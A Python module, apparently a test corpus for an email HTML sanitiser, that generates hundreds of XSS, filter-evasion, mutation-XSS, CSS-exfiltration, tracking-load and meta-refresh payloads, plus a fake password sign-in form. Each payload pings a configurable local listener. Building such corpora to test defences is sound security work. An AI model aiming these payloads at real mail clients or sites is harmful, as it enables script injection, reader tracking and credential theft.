"""HTML that attacks who reads a mail: classes of the trade, each in several spellings.

`{js}` logs and asks the listener, `{url}` is an address of the listener; both carry the payload's
own number. Sources: OWASP's cheat sheet on filter evasion, the mXSS shapes of Heiderich and Bentkowski,
Cure53's list of leaks of mail readers.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from itertools import product


@dataclass(frozen=True)
class Payload:
    """One attack: its class and its HTML."""

    kind: str
    html: str


def payloads(listener: str) -> Iterator[Payload]:
    """All of them, aimed at a listener such as `http://127.0.0.1:9000`."""
    for number, (kind, html) in enumerate(_all()):
        url = f"{listener}/{number}"
        js = f"console.log(/RAN/),new(Image)().src=`{url}`"
        yield Payload(kind, html.replace("{js}", js).replace("{url}", url))


def _all() -> Iterator[tuple[str, str]]:
    for kind, makes in _CLASSES.items():
        for html in makes:
            yield kind, html


_SCRIPTS = [
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={url}></script>",
    "<script type=module>{js}</script>",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>/*</script>*/{js}</script>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<template><script>{js}</script></template>",
    "<xmp><script>{js}</script></xmp>",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
    "\ufeff<script>{js}</script>",
    "<script async defer src='{url}'></script>",
]
_HANDLERS = [
    f"<{tag} {name}={quote_}{{js}}{quote_}{rest}>x"
    for (tag, name, rest), quote_ in product(
        [
            ("img src=x:y", "onerror", ""),
            ("img/src=x:y", "onerror", "/"),
            ("body", "onload", ""),
            ("body", "onpageshow", ""),
            ("input autofocus", "onfocus", ""),
            ("details open", "ontoggle", ""),
            ("video src=x:y", "onerror", ""),
            ("audio src=x:y", "onerror", ""),
            ("video><source src=x:y", "onerror", ""),
            ("marquee", "onstart", ""),
            ("select autofocus", "onfocus", ""),
            ("textarea autofocus", "onfocus", ""),
            ("object data=x:y", "onerror", ""),
            ("iframe src=about:blank", "onload", ""),
            ("link rel=stylesheet href=x:y", "onerror", ""),
            ("style", "onload", "></style"),
            ("div style='animation:a 1s' tabindex=0 autofocus", "onfocus", ""),
            ("button autofocus", "onfocus", ""),
            ("a id=x tabindex=1 autofocus", "onfocus", ""),
            ("img src=x:y alt='>' ", "onerror", ""),
        ],
        ['"', "'"],
    )
]
_SCRIPT_URLS = [
    f"<{tag}>x</{tag.split()[0]}>".replace("@", told)
    for tag, told in product(
        [
            'iframe src="@"',
            'object data="@"',
            'embed src="@"',
            'a autofocus href="@"',
            'form action="@"',
        ],
        [
            "javascript:{js}",
            "JaVaScRiPt:{js}",
            "java\tscript:{js}",
            "&#106;avascript:{js}",
            "\x01javascript:{js}",
            "javascript&colon;{js}",
            "vbscript:{js}",
        ],
    )
]
_DATA = [
    "data:text/html,<script>{js}</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
]
_DATA_URLS = [
    f'<{tag}="{escape(told)}">x'
    for tag, told in product(
        ["iframe src", "object data", "embed src", "img src", "frame src", "input type=image src"],
        _DATA,
    )
]
_FOREIGN = [
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href={url} /></svg>",
    "<svg><script xlink:href={url}></script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>",
    "<svg><image href={url}></svg>",
    "<svg><image xlink:href={url}></svg>",
    "<svg><use href={url}#x></svg>",
    "<svg><feImage href={url}></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><desc><img src=x:y onerror={js}></desc></svg>",
    "<svg><title><img src=x:y onerror={js}></title></svg>",
    "<math><mtext><img src=x:y onerror={js}></mtext></math>",
    "<math href='javascript:{js}'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x:y onerror={js}></annotation-xml></math>",
]
_MUTATING = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x:y onerror={js}&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x:y onerror={js}></style></mglyph></table>",
    "<svg></p><style><a id='</style><img src=x:y onerror={js}>'>",
    "<svg><p><style><a id='</style><img src=x:y onerror={js}>'></p></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x:y onerror={js}>",
    "<noscript><style></noscript><img src=x:y onerror={js}>",
    "<noembed><p id='</noembed><img src=x:y onerror={js}>'></noembed>",
    "<noframes><p id='</noframes><img src=x:y onerror={js}>'></noframes>",
    "<style><style/><img src=x:y onerror={js}>",
    "<style><!--</style><img src=x:y onerror={js}>--></style>",
    "<!--><img src=x:y onerror={js}>-->",
    "<!--!><img src=x:y onerror={js}>-->",
    "<!-- --!><img src=x:y onerror={js}>",
    "<comment><img src='</comment><img src=x:y onerror={js}>'>",
    "<title><img src='</title><img src=x:y onerror={js}>'></title>",
    "<textarea><img src='</textarea><img src=x:y onerror={js}>'></textarea>",
    "<select><template><img src=x:y onerror={js}></template></select>",
    "<table><td background='javascript:{js}'><tr><img src=x:y onerror={js}>",
    "<p id='`onerror={js}'><img src='x:y' alt='``onerror={js}'>",
    "<a href='x' title='&quot;><img src=x:y onerror={js}>'>x</a>",
    "<listing>&lt;img src=x:y onerror={js}&gt;</listing>",
    "<plaintext><img src=x:y onerror={js}>",
    "<svg><![CDATA[</svg><img src=x:y onerror={js}>]]>",
    "<math><mi><style><!--</style><img src=x:y onerror={js}>--></style></mi></math>",
    "<dialog open><math><style></math><img src=x:y onerror={js}></style></dialog>",
    "<font color='\"><img src=x:y onerror={js}>'>x</font>",
    "&lt;img src=x:y onerror={js}&gt;",
    "<img src='x:y' title='\n\n> <img src=x:y onerror={js}>'>",
]
_STYLES = [
    "<style>@import '{url}';</style>",
    "<style>@import url({url});</style>",
    "<style>body{background:url({url})}</style>",
    "<style>@font-face{font-family:f;src:url({url})}*{font-family:f}</style>",
    "<style>*{cursor:url({url}),auto}</style>",
    "<style>a::after{content:url({url})}</style><a href=#>x</a>",
    "<style>input[value^=a]{background:url({url})}</style><input value=a>",
    "<style>li{list-style-image:url({url})}</style><li>x",
    "<style>div{border-image:url({url}) 1;mask:url({url});shape-outside:url({url})}</style><div>x</div>",
    "<div style='background:url({url})'>x</div>",
    "<div style='background-image:url(&quot;{url}&quot;)'>x</div>",
    "<div style='background:u\\72l({url})'>x</div>",
    "<div style='background:/**/url/**/({url})'>x</div>",
    "<div style='background-image:image-set(\"{url}\" 1x)'>x</div>",
    "<div style='content:url({url});display:list-item;list-style:url({url})'>x</div>",
    "<div style='color:red;width:calc(1px);filter:url({url}#f)'>x</div>",
    "<div style='width:expression({js})'>x</div>",
    "<div style='behavior:url({url});-moz-binding:url({url}#x)'>x</div>",
    "<div style='--a:url({url});background:var(--a)'>x</div>",
    "<div style='border-image-source:-webkit-image-set(url({url}) 1x);border:5px solid'>x</div>",
    "<link rel=stylesheet href={url}>",
    "<table background={url}><tr><td background={url}>x</table>",
    "<body background={url}>x",
    '<font face="x\';background:url({url})">x</font>',
    "<p style='font-family:\"x\\22;background:url({url})\"'>x</p>",
]
_LOADS = [
    "<img src={url}>",
    "<img src='{url}' width=1 height=1>",
    "<img srcset='{url} 1x, {url} 2x'>",
    "<img src=x: srcset={url} sizes=100vw>",
    "<picture><source srcset={url}><img></picture>",
    "<img lowsrc={url} dynsrc={url}>",
    "<img src=//{url}>",
    "<image src={url}>",
    "<img loading=eager fetchpriority=high src='  {url}'>",
    "<img src='\n{url}'>",
    "<img/src={url}>",
    "<video poster={url} src={url} autoplay></video>",
    "<video><track default src={url}><source src={url}></video>",
    "<audio autoplay src={url}></audio>",
    "<audio><source src={url}></audio>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<img src={url}>'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<object data={url}></object>",
    "<object type=image/png data={url}></object>",
    "<object><param name=movie value={url}></object>",
    "<embed src={url}>",
    "<applet code=x archive={url}></applet>",
    "<input type=image src={url}>",
    "<bgsound src={url}>",
    "<portal src={url}></portal>",
    "<fencedframe src={url}></fencedframe>",
    "<layer src={url}></layer>",
    "<isindex type=image src={url}>",
]
_HINTS = [
    f"<link rel='{relation}' href='{{url}}'{more}>"
    for relation, more in [
        ("prefetch", ""),
        ("preload", " as=image"),
        ("preload", " as=script"),
        ("modulepreload", ""),
        ("prerender", ""),
        ("preconnect", ""),
        ("icon", ""),
        ("manifest", ""),
        ("alternate stylesheet", ""),
        ("import", ""),
        ("search", " type=application/opensearchdescription+xml"),
        ("dns-prefetch preconnect prefetch", ""),
    ]
] + [
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>',
    "<html manifest={url}>x",
    "<a ping={url} href={url} download autofocus>x</a>",
    "<a href={url} rel=prefetch>x</a>",
]
_NAVIGATION = [
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;javascript:{js}'>",
    "<meta http-equiv=refresh content='0;data:text/html,<script>{js}</script>'>",
    "<META HTTP-EQUIV='Refresh' CONTENT='0 ; URL = {url}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri {url}'><img src=x:y>",
    "<meta http-equiv=Set-Cookie content='a=b'><img src={url}>",
    "<base href='{url}/'><img src=a.png>",
    "<base href='{url}/'><link rel=stylesheet href=a.css>",
    "<base target=_top href='{url}/'><a href=x autofocus>x</a>",
    "<form action={url} method=post><input autofocus onfocus=form.submit()><input type=submit></form>",
    "<form id=f action={url}></form><button form=f autofocus onfocus=click()>x</button>",
    "<form><button formaction='javascript:{js}' autofocus onfocus=click()>x",
    "<form action={url}><input type=password name=p><input type=submit value='Sign in'></form>",
    "<keygen autofocus onfocus={js} challenge=x name=x>",
    "<body onload=location='{url}'>",
]
_ENCODINGS = [
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\u00abscript\u00bb{js}\u00ab/script\u00bb",
    "%3Cscript%3E{js}%3C/script%3E",
    "<img src=&#120;&#58;&#121; &#111;nerror={js}>",
    "<img src=x:y o\x00nerror={js}>",
    "<img src=x:y onerror\x0b={js}>",
    "<img\x0csrc=x:y\x0conerror={js}>",
    "<\x00script>{js}</script>",
    "<img src='\x00{url}'>",
    "\u202e<img src=x:y onerror={js}>\u202c",
    "<\u200bscript>{js}</script>",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
]
_HUGE = [
    "<div>" * 100_000 + "<script>{js}</script>",
    "<div>" * 500 + "<img src=x:y onerror={js}>" + "</div>" * 500,
    "<a " + "x=y " * 20_000 + "onclick={js} autofocus>x",
    "&amp;" * 200_000 + "<img src={url}>",
    "<" * 200_000 + "img src=x:y onerror={js}>",
    "<p>" + "a" * 900_000 + "<img src=x:y onerror={js}>",
    "<b><i><u>" * 300 + "<p>" * 2000 + "<script>{js}</script>",
    "<table><tr><td>" * 160 + "<img src=x:y onerror={js}>",
    "<!--" + "-" * 300_000 + "><img src=x:y onerror={js}>",
    "<img src='" + "x" * 300_000 + "' onerror={js}>",
]
_CLASSES: dict[str, list[str]] = {
    "script elements": _SCRIPTS,
    "event handlers": _HANDLERS,
    "script addresses": _SCRIPT_URLS,
    "data addresses": _DATA_URLS,
    "svg and math": _FOREIGN,
    "mutation": _MUTATING,
    "styles": _STYLES,
    "loads": _LOADS,
    "hints": _HINTS,
    "navigation and forms": _NAVIGATION,
    "encodings": _ENCODINGS,
    "huge": _HUGE,
}
